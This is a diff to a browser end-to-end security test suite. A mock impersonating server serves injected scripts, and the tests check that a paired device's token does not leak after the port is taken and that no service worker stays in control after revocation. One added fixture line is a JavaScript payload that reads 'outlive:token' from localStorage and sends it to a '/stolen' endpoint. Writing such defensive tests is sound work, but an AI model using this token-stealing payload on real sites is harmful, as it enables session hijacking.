@@ -28,6 +28,13 @@ class Stranger {
         response.setHeader('Service-Worker-Allowed', '/');
         if (request.url === '/away/evil.js')
           return response.setHeader('content-type', 'text/javascript').end(script);
+        // What the page has not loaded yet, in the stranger's words.
+        if (request.url?.endsWith('.js')) {
+          response.setHeader('content-type', 'text/javascript');
+          return response.end(
+            "fetch('/stolen?' + localStorage.getItem('outlive:token')); export const SettingsPage = () => null;",
+          );
+        }
         if (request.headers.accept?.includes('text/html') !== true)
           return response.end('{"standing": "paired"}');
         response.setHeader('content-type', 'text/html');
@@ -70,10 +77,17 @@ const tokenOf = (page: Page) =>
   page.evaluate(() => JSON.parse(localStorage.getItem('outlive:token') ?? 'null') as string | null);
 const workersOf = (page: Page) =>
   page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
+/** Whether a worker stood between page and gateway when the page was first shown. */
+const noteControl = () => {
+  new MutationObserver(() => {
+    if (document.querySelector('form') === null || sessionStorage.getItem('controlled')) return;
+    sessionStorage.setItem('controlled', String(navigator.serviceWorker.controller !== null));
+  }).observe(document, { childList: true, subtree: true });
+};
 const stolenFrom = (page: Page) =>
   page.evaluate(async () => (await (await caches.open('stolen')).keys()).map(({ url }) => url));
 
-test('[TRUST40] an open page tells whoever takes the port nothing, and says that it is somebody else', async ({
+test('[TRUST40] [TRUST47] an open page tells whoever takes the port nothing, and says that it is somebody else', async ({
   page,
   product,
 }) => {
@@ -86,7 +100,8 @@ test('[TRUST40] an open page tells whoever takes the port nothing, and says that
   await expect(page.getByRole('status')).toContainText('cannot prove that it is the server', {
     timeout: 40_000,
   });
-  await page.getByRole('link', { name: 'New session' }).tap();
+  await page.getByRole('link', { name: 'Settings' }).tap();
+  await expect.poll(() => stranger.received.join()).toContain('settings-page');
   await expect.poll(() => stranger.received.length, { timeout: 30_000 }).toBeGreaterThan(8);
   expect(stranger.received.join('\n')).not.toContain(token);
   await stranger.leave();
@@ -106,14 +121,19 @@ for (const showsItsOwn of [false, true]) {
     await stranger.take(product.url);
     await page.goto(product.url);
     await expect(page).toHaveTitle('taken');
+    // Nothing tells the page then that it was revoked, and it waits at once for a code.
+    if (!showsItsOwn) await page.evaluate(() => localStorage.clear());
     await stranger.leave();
     await product.startGateway();
     for (const line of (await product.outlive('devices')).split('\n').filter(Boolean))
       await product.outlive('devices', 'revoke', line.split(':')[0] ?? '');
+    await page.addInitScript(noteControl);
     await page.goto(product.url);
     await expect(page.getByRole('heading', { name: 'Pair this device' })).toBeVisible({
       timeout: 20_000,
     });
+    // From the first moment that anything could be typed.
+    expect(await page.evaluate(() => sessionStorage.getItem('controlled'))).toBe('false');
     await expect.poll(() => workersOf(page)).toBe(0);
     await pairByLink(page, product);
     await page.reload();
